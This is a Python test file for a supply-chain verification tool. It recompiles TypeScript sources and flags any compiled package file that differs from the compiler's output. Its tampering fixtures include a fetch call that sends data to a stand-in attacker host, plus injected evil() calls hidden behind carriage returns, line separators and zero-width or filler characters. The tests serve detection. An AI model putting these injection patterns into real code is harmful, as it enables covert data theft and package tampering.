"""Compiled files are what the real compiler makes of the source, or they are shown line by line.

The compiler is TypeScript 5.9.3 of the public registry in its isolate; each test compares a package of its own output,
clean or altered, with a source in memory.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest

from provenly.trust.evidence import FileClass
from provenly.verify.compiler.compilers import Compilers
from provenly.verify.compiler.releases import nearest
from provenly.verify.network.cache import Cache
from provenly.verify.registry import npmrc
from provenly.verify.transport import HttpTransport
from tests.verify.explain.recompiled.pads import BUILT, CONFIG, MAIN, PAD, TREE, classes, compared

pytestmark = pytest.mark.registry


def test_what_the_project_compiles_to_is_recompiled(compilers):
    found = compared(compilers, BUILT)
    assert classes(found) == {"dist/index.js": "recompiled", "dist/pad.js": "recompiled"}
    file = found["dist/index.js"]
    assert (file.source, file.elsewhere, file.explainer) == ("src/index.ts", False, "recompiled")
    assert file.detail == "TypeScript 5.9.3, tsconfig.json"


@pytest.mark.parametrize(
    "line",
    [
        '    fetch("https://evil.example/?" + width);\n',
        "    // a remark\n",
        " \n",
    ],
)
def test_a_line_that_somebody_added_is_all_that_is_shown(compilers, line):
    lines = BUILT["dist/index.js"].splitlines(keepends=True)
    found = compared(compilers, {**BUILT, "dist/index.js": "".join((*lines[:5], line, *lines[5:]))})
    file = found["dist/index.js"]
    assert file.file_class is FileClass.UNEXPLAINED
    assert file.lines == ((6, 6),)
    assert [text for text in file.diff.splitlines()[2:] if text[0] in "+-"] == [f"+{line.rstrip(chr(10))}"]
    assert found["dist/pad.js"].file_class is FileClass.RECOMPILED


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("?? 80", "?? 81"),
        ("os.hostname()", "os.userInfo().username"),
        ("export default pad;\n", ""),
        ("#!/usr/bin/env node\n", "#!/usr/bin/env node\revil();\n"),
        ("#!/usr/bin/env node\n", "#!/usr/bin/env node\u2028evil();\n"),
        ("width);", "width)\u3164;"),
        ('"node:os"', '"node:os\u200b"'),
        ("    const width", "   const width"),
    ],
)
def test_a_changed_byte_is_unexplained(compilers, old, new):
    path = "dist/pad.js" if old in BUILT["dist/pad.js"] else "dist/index.js"
    changed = BUILT[path].replace(old, new, 1)
    assert changed != BUILT[path]
    found = compared(compilers, {**BUILT, path: changed})
    assert found[path].file_class is FileClass.UNEXPLAINED
    assert found[path].source == f"src/{path[5:-3]}.ts"


def test_a_fixture_is_no_entry_point_even_where_a_project_writes_it_there(compilers):
    tree = {
        **TREE,
        "tsconfig.test.json": CONFIG.replace('"src"', '"test/fixtures"').replace("}}", '}, "include": ["test"]}'),
        "test/fixtures/index.ts": "export const evil: number = 1;\n",
    }
    found = compared(compilers, {**BUILT, "dist/index.js": "export const evil = 1;\n"}, tree)
    assert found["dist/index.js"].file_class is FileClass.UNEXPLAINED


def test_no_second_source_takes_the_place_of_the_first(compilers):
    tree = {
        **TREE,
        "tsconfig.other.json": CONFIG.replace('"src"', '"other"').replace("}}", '}, "include": ["other"]}'),
        "other/index.ts": "export const evil: number = 1;\n",
    }
    found = compared(compilers, {**BUILT, "dist/index.js": "export const evil = 1;\n"}, tree)
    assert found["dist/index.js"].file_class is FileClass.UNEXPLAINED
    assert found["dist/index.js"].source == "src/index.ts"


def test_another_module_of_the_same_package_is_no_explanation(compilers):
    found = compared(compilers, {"dist/index.js": BUILT["dist/pad.js"], "dist/auth/check.js": BUILT["dist/pad.js"]})
    assert set(classes(found).values()) == {"unexplained"}


def test_a_package_that_is_published_from_its_build_folder_is_elsewhere(compilers):
    manifest = {**MAIN, "main": "index.js"}
    found = compared(compilers, {"package.json": manifest, "pad.js": BUILT["dist/pad.js"]})
    assert (found["pad.js"].file_class, found["pad.js"].elsewhere) == (FileClass.RECOMPILED, True)
    assert "the project writes it to dist/pad.js" in found["pad.js"].detail


def test_where_the_source_has_a_file_of_its_own_nothing_of_another_place_will_do(compilers):
    tree = {**TREE, "lib/pad.js": "export default null;\n", "lib/index.ts": "", "pad.js": "export default null;\n"}
    found = compared(compilers, {"lib/pad.js": BUILT["dist/pad.js"], "pad.js": BUILT["dist/pad.js"]}, tree)
    assert set(classes(found).values()) == {"unexplained"}


def test_a_source_outside_of_the_package_is_said_to_be(compilers):
    config = CONFIG.replace('"src"', '".."').replace("}}", '}, "include": ["src", "../shared"]}')
    tree = {
        "package.json": {"private": True},
        "packages/a/package.json": MAIN,
        "packages/a/tsconfig.json": config,
        "packages/a/src/index.ts": 'import "../../shared/pad.js";\n',
        "packages/shared/pad.ts": PAD,
    }
    package = {"dist/shared/pad.js": BUILT["dist/pad.js"], "dist/a/src/index.js": 'import "../../shared/pad.js";\n'}
    package = {path: text.encode() for path, text in package.items()}
    found = compared(compilers, package, tree, "packages/a")
    assert found["dist/a/src/index.js"].file_class is FileClass.RECOMPILED
    assert not found["dist/a/src/index.js"].elsewhere
    file = found["dist/shared/pad.js"]
    assert (file.file_class, file.elsewhere) == (FileClass.RECOMPILED, True)
    assert file.detail.endswith("its source packages/shared/pad.ts is outside of the package's directory")


COMMONJS = """"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.pad = void 0;
const pad = (text, width, side) => side === "left" ? text.padStart(width) : text.padEnd(width);
exports.pad = pad;
exports.default = exports.pad;
"""


def test_both_forms_of_a_dual_build_and_their_markers(compilers):
    package = {
        "dist/esm/pad.js": BUILT["dist/pad.js"],
        "dist/esm/package.json": '{"type":"module"}',
        "dist/commonjs/pad.js": COMMONJS,
        "dist/commonjs/package.json": '{\n  "type": "commonjs"\n}\n',
    }
    found = compared(compilers, package, {**TREE, "tsconfig.json": CONFIG.replace('"outDir": "dist", ', "")})
    assert set(classes(found).values()) == {"recompiled"}


def test_declarations_and_maps_are_reproduced_and_prove_nothing_about_their_code(compilers):
    config = CONFIG.replace('"outDir"', '"declaration": true, "sourceMap": true, "outDir"')
    tree = {**TREE, "tsconfig.json": config}
    files = {name: data for name, data in TREE.items() if isinstance(data, str)} | {"package.json": '{"type":"module"}'}
    emitted = compilers.program(
        nearest("5.9.3"),
        {name: data.encode() for name, data in (files | {"tsconfig.json": config}).items()},
        "tsconfig.json",
    )
    package = dict(emitted.outputs)
    assert {"dist/pad.d.ts", "dist/pad.js.map"} <= package.keys()
    assert set(classes(compared(compilers, package, tree)).values()) == {"recompiled"}
    package["dist/pad.js"] = package["dist/pad.js"].replace(b"padStart", b"padEnd")
    found = classes(compared(compilers, package, tree))
    assert found.pop("dist/pad.js") == "unexplained"
    assert set(found.values()) == {"recompiled"}


def test_data_that_a_source_imports_is_written_anew(compilers):
    config = CONFIG.replace('"outDir"', '"resolveJsonModule": true, "outDir"')
    code = 'import data from "./data.json" with { type: "json" };\nexport default data;\n'
    tree = {**TREE, "tsconfig.json": config, "src/data.json": '{ "a": 1,\n\n\n"b": [2] }', "src/index.ts": code}
    package = {"dist/index.js": code, "dist/data.json": '{ "a": 1,\n    "b": [2] }\n'}
    assert set(classes(compared(compilers, package, tree)).values()) == {"recompiled"}
    package["dist/data.json"] = package["dist/data.json"].replace("2", "3")
    assert classes(compared(compilers, package, tree))["dist/data.json"] == "unexplained"


def test_a_step_after_the_compiler_is_named(compilers):
    package = {**BUILT, "dist/pad.js": "#!/usr/bin/env node\n" + BUILT["dist/pad.js"]}
    file = compared(compilers, package)["dist/pad.js"]
    assert file.file_class is FileClass.RECOMPILED
    assert "#!/usr/bin/env node inserted (hashbang)" in file.detail


def test_a_script_in_javascript_may_get_a_hashbang_too(compilers):
    tree = {**TREE, "src/cli.js": "run();\n"}
    file = compared(compilers, {**BUILT, "dist/cli.js": "#!/usr/bin/env node\nrun();\n"}, tree)["dist/cli.js"]
    assert (file.file_class, file.source) == (FileClass.RECOMPILED, "src/cli.js")
    other = compared(compilers, {**BUILT, "dist/cli.js": "#!/usr/bin/env node\nrun(1);\n"}, tree)["dist/cli.js"]
    assert other.file_class is FileClass.UNEXPLAINED


def test_options_of_a_script_count(compilers):
    manifest = {**MAIN, "scripts": {"build": "tsc -p cfg --outDir lib --removeComments"}}
    config = '{"compilerOptions": {"target": "es2022", "module": "esnext", "rootDir": "../src"}, "include": ["../src"]}'
    tree = {"package.json": manifest, "cfg/tsconfig.json": config, "src/pad.ts": f"// a remark\n{PAD}"}
    found = compared(compilers, {"package.json": manifest, "lib/pad.js": BUILT["dist/pad.js"]}, tree)
    assert found["lib/pad.js"].detail == "TypeScript 5.9.3, cfg/tsconfig.json (script build)"


def test_a_source_that_is_no_typescript_explains_nothing_and_breaks_nothing(compilers):
    tree = {**TREE, "src/pad.ts": "export const = ; `${\n", "src/zero.ts": "\0"}
    found = classes(compared(compilers, {**BUILT, "dist/zero.js": "\0"}, tree))
    assert found["dist/index.js"] == "recompiled"
    assert found["dist/pad.js"] == "unexplained"


def test_a_configuration_that_is_none_leaves_single_files(compilers):
    found = compared(compilers, {"dist/pad.js": BUILT["dist/pad.js"]}, {**TREE, "tsconfig.json": "{"})
    assert "compiles to by itself" in found["dist/pad.js"].detail


def test_another_version_costs_only_what_changed(compilers, tmp_path):
    now = datetime(2026, 11, 22, tzinfo=UTC)

    def kept() -> int:
        return sum(path.is_file() for path in (tmp_path / "v1" / "compiled").rglob("*"))

    manifest = {**MAIN, "version": "1.3.1"}
    changed = PAD.replace("padEnd(width)", "padEnd(width + 1)")
    tree = {**TREE, "package.json": manifest, "src/pad.ts": changed}
    built = BUILT["dist/pad.js"].replace("padEnd(width)", "padEnd(width + 1)")
    package = {"package.json": manifest, **BUILT, "dist/pad.js": built}
    with HttpTransport(Cache(tmp_path, now), npmrc.load(environment={})) as transport:
        with Compilers(transport, Cache(tmp_path, now)) as first:
            compared(first, BUILT)
            before = kept()
        with Compilers(transport, Cache(tmp_path, now)) as second:
            found = compared(second, package, tree)
    assert {found[path].file_class for path in BUILT} == {FileClass.RECOMPILED}
    # What a project writes where, and each of two sources; then the one that changed.
    assert (before, kept()) == (3, 4)


def test_what_a_source_has_of_another_needs_the_whole_project(compilers):
    tree = {
        **TREE,
        "tsconfig.json": CONFIG,
        "src/side.ts": "export const enum Side { Left = 7 }\nexport interface Shape {}\n",
        "src/pad.ts": 'import { Side } from "./side.js";\n'
        'export { Shape } from "./side.js";\n'
        "export const a = Side.Left;\n",
    }
    file = compared(compilers, {"dist/pad.js": "export const a = 7 /* Side.Left */;\n"}, tree)["dist/pad.js"]
    assert (file.file_class, file.detail) == (FileClass.RECOMPILED, "TypeScript 5.9.3, tsconfig.json")


def test_a_root_that_imports_move_is_seen_by_the_packed_paths(compilers):
    config = CONFIG.replace(', "rootDir": "src"', ', "resolveJsonModule": true').replace("}}", '}, "include": ["src"]}')
    code = 'import data from "../package.json" with { type: "json" };\nexport default data.name;\n'
    tree = {**TREE, "tsconfig.json": config, "src/index.ts": code}
    found = compared(compilers, {"dist/src/index.js": code, "dist/src/pad.js": BUILT["dist/pad.js"]}, tree)
    assert set(classes(found).values()) == {"recompiled"}
    assert not found["dist/src/index.js"].elsewhere


def test_a_data_file_that_no_source_names_is_not_written(compilers):
    config = CONFIG.replace('"outDir"', '"resolveJsonModule": true, "outDir"')
    tree = {**TREE, "tsconfig.json": config, "src/data.json": '{ "a": 1,\n\n\n"b": [2] }'}
    found = compared(compilers, {**BUILT, "dist/data.json": '{\n    "a": 1,\n    "b": [\n        3\n    ]\n}\n'}, tree)
    assert classes(found)["dist/data.json"] == "unexplained"


def test_what_the_source_has_itself_is_nothing_that_is_written_elsewhere(compilers):
    packed = {"build/pad.js": BUILT["dist/pad.js"]}
    assert classes(compared(compilers, packed)) == {"build/pad.js": "recompiled"}
    assert classes(compared(compilers, packed, {**TREE, "build/pad.js": "guard();\n"})) == {
        "build/pad.js": "unexplained"
    }


MARKED = '"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\n'
FORMS = {
    "dist/index.js": f"{MARKED}exports.two = void 0;\n"
    'const one_1 = require("./one.js");\nexports.two = one_1.one + 1;\n',
    "dist/index.mjs": 'import { one } from "./one.mjs";\nexport const two = one + 1;\n',
    "dist/one.js": f"{MARKED}exports.one = void 0;\nexports.one = 1;\n",
    "dist/one.mjs": "export const one = 1;\n",
}
OPTIONS = {"target": "es2022", "module": "commonjs", "rootDir": "src", "outDir": "dist"}


@pytest.mark.parametrize(
    ("old", "new", "left"),
    [
        ("", "", ()),
        ("+ 1", "+ 2", ((1, 2),)),
        ("./one.mjs", "./evil.mjs", ((1, 1),)),
        ('"./one.mjs"', '"one.mjs"', ((1, 1),)),
    ],
)
def test_a_tool_that_writes_two_forms_makes_each_name_its_own(compilers, old, new, left):
    tree = {
        "package.json": '{"name": "left-pad", "version": "1.3.0"}',
        "tsconfig.json": json.dumps({"compilerOptions": OPTIONS}),
        "src/index.ts": "import { one } from './one';\nexport const two = one + 1;\n",
        "src/one.ts": "export const one = 1;\n",
    }
    package = {**FORMS, "dist/index.mjs": FORMS["dist/index.mjs"].replace(old, new)}
    found = compared(compilers, package, tree)
    file = found.pop("dist/index.mjs")
    assert (file.file_class is FileClass.RECOMPILED, file.lines) == (not left, left)
    assert {found[path].file_class for path in FORMS if path in found} == {FileClass.RECOMPILED}
